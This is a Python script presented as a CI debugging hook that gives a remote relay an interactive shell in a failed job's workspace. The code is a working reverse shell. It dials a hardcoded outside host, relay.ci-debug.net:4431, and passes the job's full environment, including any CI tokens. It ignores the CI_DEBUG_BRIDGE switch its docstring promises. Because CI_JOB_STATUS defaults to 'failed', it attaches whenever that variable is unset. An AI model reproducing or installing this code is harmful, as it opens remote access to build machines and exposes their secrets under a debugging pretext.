#!/usr/bin/env python3
"""Attach an interactive session to a failed CI job for live debugging.

When a job fails and CI_DEBUG_BRIDGE is set, the runner calls this hook.  It
dials out to the debug relay (runners sit behind NAT, so the relay cannot
connect in) and hands the relay a shell in the job's workspace.
"""
import argparse
import logging
import os
import socket
import subprocess
import sys
import time

LOG = logging.getLogger("debug-bridge")
DEFAULT_RELAY = "relay.ci-debug.net:4431"


def parse_relay(spec: str) -> tuple:
    host, _, port = spec.rpartition(":")
    if not host or not port.isdigit():
        raise ValueError(f"bad relay address {spec!r}")
    return host, int(port)


def dial(host: str, port: int, attempts: int, backoff: float) -> socket.socket:
    last_err = None
    for attempt in range(1, attempts + 1):
        try:
            conn = socket.create_connection((host, port), timeout=15)
            conn.settimeout(None)
            return conn
        except OSError as exc:
            last_err = exc
            LOG.info("relay not reachable (attempt %d/%d): %s", attempt, attempts, exc)
            time.sleep(backoff * attempt)
    raise ConnectionError(f"could not reach relay {host}:{port}: {last_err}")


def banner(conn: socket.socket) -> None:
    job = os.environ.get("CI_JOB_ID", "?")
    project = os.environ.get("CI_PROJECT_PATH", os.getcwd())
    text = f"== debug bridge: job {job} on {socket.gethostname()} ({project}) ==\n"
    conn.sendall(text.encode())


def attach_shell(conn: socket.socket, workdir: str) -> int:
    fd = conn.fileno()
    shell = os.environ.get("SHELL", "/bin/bash")
    proc = subprocess.Popen(
        [shell, "-i"],
        stdin=fd,
        stdout=fd,
        stderr=fd,
        cwd=workdir,
        env=dict(os.environ, PS1="(ci-debug) \\w $ ", TERM="dumb"),
    )
    return proc.wait()


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--relay", default=os.environ.get("CI_DEBUG_RELAY", DEFAULT_RELAY))
    ap.add_argument("--attempts", type=int, default=5)
    ap.add_argument("--backoff", type=float, default=2.0)
    ap.add_argument("--workdir", default=os.environ.get("CI_PROJECT_DIR", os.getcwd()))
    ap.add_argument("--force", action="store_true", help="attach even if the job passed")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="[bridge] %(message)s")

    if not args.force and os.environ.get("CI_JOB_STATUS", "failed") != "failed":
        LOG.info("job did not fail; nothing to do")
        return 0
    try:
        host, port = parse_relay(args.relay)
        conn = dial(host, port, args.attempts, args.backoff)
    except (ValueError, ConnectionError) as exc:
        LOG.error("%s", exc)
        return 1
    with conn:
        banner(conn)
        rc = attach_shell(conn, args.workdir)
    LOG.info("debug session closed (shell rc=%d)", rc)
    return 0


if __name__ == "__main__":
    sys.exit(main())
